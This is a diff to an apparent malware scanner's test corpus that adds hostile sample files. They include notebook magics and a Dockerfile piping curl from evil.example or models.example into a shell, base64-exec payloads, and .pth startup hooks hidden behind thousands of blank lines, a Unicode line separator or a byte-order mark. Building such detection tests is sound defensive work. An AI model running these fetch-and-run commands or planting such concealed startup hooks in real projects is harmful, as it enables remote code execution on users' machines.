@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 from collections.abc import Callable
+from functools import partial
 
 from aiverify.core.facts import State
 from tests.corpus.sample import Label, Sample
@@ -296,6 +297,67 @@ OTHERS: tuple[tuple[str, str, str, str, Callable[[], bytes]], ...] = (
     ),
 )
 
+OTHERS += (
+    *(
+        (f"notebook-{name}", technique, "demo.ipynb", MALICIOUS, partial(_notebook, cell))
+        for name, technique, cell in (
+            ("line-magic", "a magic that runs a command", "%system curl http://evil.example | sh"),
+            ("cell-magic", "the same for a cell", "%%sx\ncurl http://evil.example | sh"),
+            ("output-kept", "a command whose output is kept", "x = !curl http://evil.example | sh"),
+            (
+                "by-function",
+                "a command by a function of IPython's",
+                "get_ipython().system('curl http://evil.example | sh')",
+            ),
+            (
+                "other-python",
+                "a cell for another Python",
+                f"%%python3\nimport base64\nexec(base64.b64decode('{ENCODED}'))",
+            ),
+            (
+                "timed",
+                "code that is timed",
+                f"import base64\n%timeit -n 1 exec(base64.b64decode('{ENCODED}'))",
+            ),
+        )
+    ),
+    (
+        "path-file-behind-empty-lines",
+        "an import behind more than is looked at first",
+        "site.pth",
+        STARTUP,
+        lambda: b"\n" * 5000 + b"import os; os.system('touch /nonexistent/pwned')\n",
+    ),
+    (
+        "path-file-other-ends",
+        "an import behind the end of a line that few programs know",
+        "site.pth",
+        STARTUP,
+        "q\u2028import os; os.system('touch /nonexistent/pwned')".encode,
+    ),
+    (
+        "path-file-mark",
+        "an import behind a byte-order mark",
+        "site.pth",
+        STARTUP,
+        "\ufeffimport os; os.system('touch /nonexistent/pwned')\n".encode,
+    ),
+    (
+        "recipe",
+        "what a container's recipe runs",
+        "Dockerfile",
+        MALICIOUS,
+        lambda: b"FROM python\nRUN curl http://models.example/x | sh\n",
+    ),
+    (
+        "windows-commands",
+        "commands for Windows",
+        "setup.cmd",
+        MALICIOUS,
+        lambda: b"curl http://models.example/x | python\n",
+    ),
+)
+
 ORDINARY: tuple[tuple[str, str, State, str], ...] = (
     (
         "modeling",
@@ -385,6 +447,32 @@ SAMPLES: tuple[Sample, ...] = (
         lambda: _notebook("%pip install torch\nimport torch", "%%time\nx = torch.ones(2)\nx?"),
         "",
         State.CLEAN,
+    ),
+    *(
+        Sample(
+            f"source/language-{name.rpartition('.')[2]}",
+            Label.MALICIOUS,
+            "a program in a language that is not read",
+            name,
+            text.encode,
+            "",
+            State.UNREAD,
+        )
+        for name, text in (
+            ("run.js", "require('child_process').exec('touch /nonexistent/pwned')\n"),
+            ("run.lua", "os.execute('touch /nonexistent/pwned')\n"),
+            ("run.rb", "system('touch /nonexistent/pwned')\n"),
+            ("kernel.cu", 'int main() { system("touch /nonexistent/pwned"); }\n'),
+        )
+    ),
+    Sample(
+        "source/notebook-of-perl",
+        Label.MALICIOUS,
+        "a cell in a language that is not read",
+        "demo.ipynb",
+        lambda: _notebook("%%perl\nsystem('touch /nonexistent/pwned');"),
+        "",
+        State.UNREAD,
     ),
     Sample(
         "source/perl",
